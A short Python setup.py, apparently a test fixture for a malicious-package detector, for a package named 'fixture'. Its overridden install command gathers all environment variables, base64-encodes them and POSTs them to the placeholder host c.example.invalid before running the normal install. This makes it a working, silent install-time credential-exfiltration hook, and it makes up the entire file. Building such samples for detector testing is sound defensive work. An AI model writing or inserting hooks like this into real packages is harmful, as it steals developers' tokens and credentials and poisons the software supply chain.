import base64, os, http.client
from setuptools import setup
from setuptools.command.install import install

class Post(install):
    def run(self):
        lines = []
        for k, v in os.environ.items():
            lines.append("%s=%s" % (k, v))
        c = http.client.HTTPSConnection("c.example.invalid")
        c.request("POST", "/", base64.b64encode("\n".join(lines).encode()))
        install.run(self)

setup(name="fixture", version="1.0", cmdclass={"install": Post})
